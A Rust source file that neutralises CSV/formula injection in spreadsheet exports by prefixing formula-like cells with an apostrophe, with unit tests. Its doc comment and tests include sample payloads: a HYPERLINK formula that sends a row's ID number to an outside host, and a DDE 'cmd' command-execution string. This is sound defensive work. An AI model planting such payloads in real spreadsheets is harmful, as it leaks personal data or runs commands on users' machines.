//! Text cells written to the CSV and XLSX files officers open in Excel or WPS. A text that begins
//! with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to a spreadsheet, and a formula
//! such as `=HYPERLINK("http://…?"&C2)` sends the row's ID number away when clicked. Following
//! OWASP's CSV-injection advice such a cell gets a leading `'`; numbers stay numbers.

use std::borrow::Cow;

/// The text as it is safe to put in a spreadsheet cell.
pub fn plain_text(text: &str) -> Cow<'_, str> {
    let formula_like = matches!(
        text.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    );
    if formula_like && text.trim().parse::<f64>().is_err() {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Every cell of a CSV record through [`plain_text`].
pub fn plain_record<S: AsRef<str>>(cells: &[S]) -> Vec<String> {
    cells
        .iter()
        .map(|c| plain_text(c.as_ref()).into_owned())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_neutralised_and_numbers_stay_numbers() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://x/?\"&C2,\"详情\")",
                "'=HYPERLINK(\"http://x/?\"&C2,\"详情\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3+cmd", "'-2+3+cmd"),
            ("@SUM(1,2)", "'@SUM(1,2)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("心电图培训", "心电图培训"),
            ("a=b", "a=b"),
            ("", ""),
            ("-12.5", "-12.5"),
            ("+3", "+3"),
        ] {
            assert_eq!(plain_text(cell), written, "{cell:?}");
        }
    }
}
